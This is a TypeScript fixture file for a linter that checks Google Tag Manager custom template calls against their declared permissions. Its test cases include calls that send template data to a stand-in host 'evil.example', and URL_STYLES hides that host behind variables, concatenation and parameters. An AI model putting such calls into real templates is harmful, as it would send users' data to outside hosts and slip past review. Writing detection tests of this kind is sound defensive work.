/** Examples for the rules on texts and parts that a permission must cover. */
import { flag, maps, permission, text, texts, withCode } from '../template-text.ts';
import type { Example } from './example.ts';

const SPECIFIC = text('specific');
const code = (call: string) => `${call}\ndata.gtmOnSuccess();`;
/** A good and a bad call under the same permission; the bad one stands on a line of its own. */
const pair = (rule: string, [bad, good, names]: [string, string, string], granted: unknown): Example => ({
  rule,
  bad: withCode(code(bad), { permissions: [granted] }),
  good: withCode(code(good), { permissions: [granted] }),
  names,
  at: bad,
});

const headers = permission('read_request', {
  requestAccess: SPECIFIC,
  headersAllowed: flag(true),
  headerAccess: SPECIFIC,
  headerWhitelist: maps({ headerName: 'user-agent' }),
});
const query = permission('read_request', {
  requestAccess: SPECIFIC,
  queryParametersAllowed: flag(true),
  queryParameterAccess: SPECIFIC,
  queryParameterWhitelist: maps({ queryParameter: 'gclid' }),
});
const responseHeaders = permission('access_response', {
  writeResponseAccess: SPECIFIC,
  writeHeadersAllowed: flag(true),
  writeHeaderAccess: SPECIFIC,
  writeHeaderWhitelist: maps({ headerName: 'content-type' }),
});
const urls = { allowedUrls: SPECIFIC, urls: texts('https://example.com/') };

export const WHITELIST_EXAMPLES: Example[] = [
  pair(
    'cookie-read-not-allowed',
    ["require('getCookieValues')('_gat');", "require('getCookieValues')('_ga');", '_gat'],
    permission('get_cookies', { cookieAccess: SPECIFIC, cookieNames: texts('_ga') }),
  ),
  pair(
    'cookie-write-not-allowed',
    ["require('setCookie')('_other', '1');", "require('setCookie')('_own', '1');", '_other'],
    permission('set_cookies', {
      allowedCookies: maps({ name: '_own', domain: '*', path: '*', secure: 'any', session: 'any' }),
    }),
  ),
  pair(
    'header-not-allowed',
    ["require('getRequestHeader')('referer');", "require('getRequestHeader')('User-Agent');", 'referer'],
    headers,
  ),
  pair(
    'response-header-not-allowed',
    ["require('setResponseHeader')('x-a', '1');", "require('setResponseHeader')('Content-Type', 'text/html');", 'x-a'],
    responseHeaders,
  ),
  pair(
    'query-parameter-not-allowed',
    ["require('getRequestQueryParameter')('fbclid');", "require('getRequestQueryParameter')('gclid');", 'fbclid'],
    query,
  ),
  pair(
    'event-key-not-allowed',
    ["require('getEventData')('user_data.email');", "require('getEventData')('items.0.price');", 'user_data.email'],
    permission('read_event_data', { eventDataAccess: SPECIFIC, keyPatterns: texts('value', 'items.*') }),
  ),
  pair(
    'url-not-allowed',
    [
      "require('sendHttpRequest')('https://evil.example/' + data.x);",
      "require('sendHttpRequest')('https://example.com/v1/' + 'a');",
      'https://evil.example/',
    ],
    permission('send_http', urls),
  ),
  pair(
    'pixel-url-not-allowed',
    [
      "require('sendPixelFromBrowser')('https://example.org/p');",
      "require('sendPixelFromBrowser')('https://example.com/p');",
      'example.org',
    ],
    permission('send_pixel_from_browser', urls),
  ),
  pair(
    'message-type-not-allowed',
    ["require('sendMessage')('b', {});", "require('sendMessage')('a', {});", '"b"'],
    permission('use_message', { allowedActions: SPECIFIC, messageTypes: maps({ type: 'a', action: 'send' }) }),
  ),
  pair(
    'request-part-not-allowed',
    ["require('getRequestBody')();", "require('getRequestHeader')('User-Agent');", 'bodyAllowed'],
    headers,
  ),
  pair(
    'response-part-not-allowed',
    [
      "require('setResponseStatus')(200);",
      "require('setResponseHeader')('content-type', 'a/b');",
      'writeStatusAllowed',
    ],
    responseHeaders,
  ),
  pair(
    'all-event-data-not-allowed',
    ["require('getAllEventData')();", "require('getEventData')('value');", 'getAllEventData'],
    permission('read_event_data', { eventDataAccess: SPECIFIC, keyPatterns: texts('value') }),
  ),
];

/** Calls that the rules must leave alone: [why, call, permission]. */
export const ALLOWED_CALLS: [string, string, unknown][] = [
  [
    'the name is made at run time',
    "require('getCookieValues')(data.gtmOnSuccess);",
    permission('get_cookies', { cookieAccess: SPECIFIC, cookieNames: texts('_ga') }),
  ],
  [
    'only the beginning of the name is known',
    "require('getCookieValues')('_ga_' + data.gtmOnSuccess);",
    permission('get_cookies', { cookieAccess: SPECIFIC, cookieNames: texts('_ga_ABC') }),
  ],
  [
    'any cookie may be read',
    "require('getCookieValues')('x');",
    permission('get_cookies', { cookieAccess: text('any') }),
  ],
  [
    'the row is for any name',
    "require('setCookie')('x', '1');",
    permission('set_cookies', {
      allowedCookies: maps({ name: '*', domain: '*', path: '*', secure: 'any', session: 'any' }),
    }),
  ],
  [
    'any part of the request may be read',
    "require('getRequestHeader')('x');",
    permission('read_request', { requestAccess: text('any') }),
  ],
  [
    'the host is made at run time',
    "require('sendHttpGet')('https://' + data.gtmOnSuccess);",
    permission('send_http', urls),
  ],
  [
    'the host is still open',
    "require('sendHttpGet')('https://example' + data.gtmOnSuccess);",
    permission('send_http', urls),
  ],
  [
    'a sub-domain is covered',
    "require('sendHttpGet')('https://eu.acme.test/a');",
    permission('send_http', { allowedUrls: SPECIFIC, urls: texts('https://*.acme.test/*') }),
  ],
  [
    'any URL may be called',
    "require('sendHttpGet')('https://evil.example/');",
    permission('send_http', { allowedUrls: text('any') }),
  ],
  [
    'two variables refer to each other',
    "let a = 'x', b = a;\na = b;\nrequire('sendHttpGet')(a);",
    permission('send_http', urls),
  ],
  ['one variable is made of itself', "var a = a + 'b';\nrequire('sendHttpGet')(a);", permission('send_http', urls)],
  [
    'a domain of Google is open',
    "require('sendHttpGet')('https://www.google-analytics.com/g');",
    permission('send_http', { allowedUrls: SPECIFIC, allowGoogleDomains: flag(true) }),
  ],
];

const FOREIGN = "'https://evil.example/'";
const call = (before: string, url: string) =>
  withCode(code(`${before}\nrequire('sendHttpGet')(${url});`), { permissions: [permission('send_http', urls)] });

const functionWith = (statement: string) =>
  call(
    `const f = (url) => {\n  if (!url) { ${statement} }\n  require('sendHttpGet')(url);\n};\nf(undefined);`,
    'data.gtmOnSuccess',
  );

/** Ways to write a URL: [how, template whose URL is outside the whitelist, whether the linter can know]. */
export const URL_STYLES: [string, string, boolean][] = [
  ['a literal', call('', FOREIGN), true],
  ['a variable that is set once', call(`var host = ${FOREIGN};`, 'host'), true],
  ['a variable that another one takes over', call(`const host = ${FOREIGN};\nlet url = host;`, 'url'), true],
  ['the left side of a sum', call(`const host = ${FOREIGN};`, "host + 'v1/' + data.gtmOnSuccess"), true],
  ['a chain of concat', call(`var host = ${FOREIGN};`, '"".concat(host).concat(data.gtmOnSuccess, "/events")'), true],
  ['a variable that is set twice', call(`let url = ${FOREIGN};\nurl = 'https://example.com/';`, 'url'), false],
  ['a variable that grows', call(`let url = ${FOREIGN};\nurl += 'x';`, 'url'), false],
  ['a variable that a loop changes', call(`var url = ${FOREIGN};\nfor (url in {a: 1}) {}`, 'url'), false],
  ['a parameter', call(`const f = (url) => url;\nf(${FOREIGN});`, 'f(1)'), false],
  ['a parameter with a fallback', functionWith(`url = ${FOREIGN};`), false],
];
